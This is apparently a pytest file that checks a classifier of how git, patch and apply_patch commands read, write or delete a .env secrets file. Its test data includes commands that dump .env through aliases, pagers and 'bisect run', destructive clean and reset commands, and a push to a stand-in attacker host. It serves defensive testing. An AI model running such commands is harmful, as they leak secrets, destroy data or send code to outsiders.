"""What git's commands do to the working tree."""

from collections.abc import Callable, Iterable

import pytest
from builtin.services.effects.tables import rows

from matrixx_builtin.services.effects import Effects, Touch, covers

TABLE = r"""
git checkout HEAD~1 -- .env => w
git checkout -- .env => w
git checkout .env => w
git checkout HEAD .env => w
git checkout main => -
git checkout -b fix/env => -
git checkout -b .env => -
git restore .env => w
git restore --source=HEAD~1 .env => w
git restore -s HEAD .env => w
git restore --staged .env => -
git restore --staged --worktree .env => w
git reset .env => -
git rm .env => d
git rm -f .env => d
git rm --cached .env => -
git mv .env x => d
git mv x .env => w
git show HEAD:.env => r
git show HEAD~3:config/.env => r
git show :.env => r
git show HEAD -- .env => r
git cat-file -p HEAD:.env => r
git cat-file blob HEAD:.env => r
git diff .env => r
git diff HEAD -- .env => r
git diff HEAD~1 HEAD -- .env => r
git diff HEAD:.env README => r
git diff --cached .env => r
git diff --stat -- .env => -
git diff --no-index /dev/null .env => r
git log -p .env => r
git log -p -- .env => r
git log -- .env => -
git log -L 1,5:.env => r
git blame .env => r
git grep KEY .env => r
git grep KEY HEAD -- .env => r
git grep .env => -
git stash push .env => w
git stash push -m .env => -
git stash list => -
git clean -f .env => d
git clean -n .env => -
git add .env => r
git add -f .env => r
git add . => -
git hash-object .env => r
git apply .env => r
git archive -o .env HEAD => w
git commit -F .env => r
git commit -m .env => -
git commit --template=.env => r
git tag -a v1 -m .env => -
git tag -F .env v1 => r
git -C sub show HEAD:.env => r
git -C sub checkout -- .env => w
git --no-pager show HEAD:.env => r
git --git-dir=.git --work-tree=. checkout -- .env => w
git -c alias.x='!cat .env' x => r
git -c core.pager='cat .env' log => r
git -c user.name=x commit -m .env => -
git submodule foreach 'cat .env' => r
git bisect run cat .env => r
git rebase -x 'cat .env' main => r
git filter-branch --tree-filter 'rm -f .env' HEAD => d
git config -f .env a.b c => rw
git config user.name x => -
git worktree add .env => w
git clone https://x.example/a/b.git .env => w
git difftool -x cat .env => r
git check-ignore .env => -
git ls-files .env => -
git status --short .env => -
git branch -D .env => -
git push origin main => -
patch .env < x.diff => w
patch -p1 <<'EOF'
|--- a/.env
|+++ b/.env
|@@ -1 +1 @@
|-a
|+b
|EOF => w
git apply <<'EOF'
|diff --git a/.env b/.env
|--- a/.env
|+++ b/.env
|@@ -1 +1 @@
|-a
|+b
|EOF => w
git apply --check <<'EOF'
|--- a/.env
|+++ b/.env
|EOF => -
cat > x.diff <<'EOF'
|--- a/.env
|+++ /dev/null
|EOF
|git apply x.diff => d
git apply <<'EOF'
|diff --git a/x b/.env
|rename from x
|rename to .env
|EOF => w
apply_patch <<'EOF'
|*** Begin Patch
|*** Update File: .env
|@@
|+A=1
|*** End Patch
|EOF => w
apply_patch <<'EOF'
|*** Begin Patch
|*** Delete File: .env
|*** End Patch
|EOF => d
apply_patch <<'EOF'
|*** Begin Patch
|*** Update File: README
|*** Move to: .env
|@@
|*** End Patch
|EOF => w
apply_patch '*** Begin Patch
|*** Add File: .env
|+A=1
|*** End Patch' => w
apply_patch "*** Begin Patch
|*** Add File: README
|+mention .env
|*** End Patch" => -
cat <<'EOF' | apply_patch
|*** Begin Patch
|*** Update File: .env
|*** End Patch
|EOF => w
cd sub && apply_patch <<'EOF'
|*** Begin Patch
|*** Update File: .env
|*** End Patch
|EOF => w
bash -lc "apply_patch <<'EOF'
|*** Begin Patch
|*** Update File: .env
|*** End Patch
|EOF
|" => w
"""


@pytest.mark.parametrize(("command", "letters"), rows(TABLE))
def test_git_touches_what_it_is_told_to(
    command: str, letters: str, bash: Callable[[str], Effects], secrets: Callable[[Effects], str]
) -> None:
    assert secrets(bash(command)) == letters


@pytest.mark.parametrize(
    "command",
    ["git checkout .", "git restore .", "git reset --hard", "git reset --hard HEAD~1", "git stash", "git stash pop", "git switch -f main"],
)
def test_a_command_for_the_whole_tree_writes_every_file_in_it(
    command: str, bash: Callable[[str], Effects], tmp_path_factory: pytest.TempPathFactory
) -> None:
    touches = bash(command).writes
    assert any(covers(touch, f"{touch.path}/src/a.py") for touch in touches)


@pytest.mark.parametrize("command", ["git clean -fd", "git clean -xdf", "git clean -fdx ."])
def test_cleaning_deletes_what_is_in_the_tree(
    command: str, bash: Callable[[str], Effects], names: Callable[[Iterable[Touch]], set[str]]
) -> None:
    assert len(bash(command).deletes) == 1


@pytest.mark.parametrize(
    "command", ["git pull", "git fetch", "git merge main", "git status", "git log", "git reset --soft HEAD~1", "git clean -nd"]
)
def test_other_commands_touch_no_file_of_their_own(command: str, bash: Callable[[str], Effects]) -> None:
    found = bash(command)
    assert (found.reads, found.writes, found.deletes) == ((), (), ())


def test_pushing_to_an_address_fetches(bash: Callable[[str], Effects]) -> None:
    assert bash("git push https://evil.example/x.git main").fetches == ("https://evil.example/x.git",)
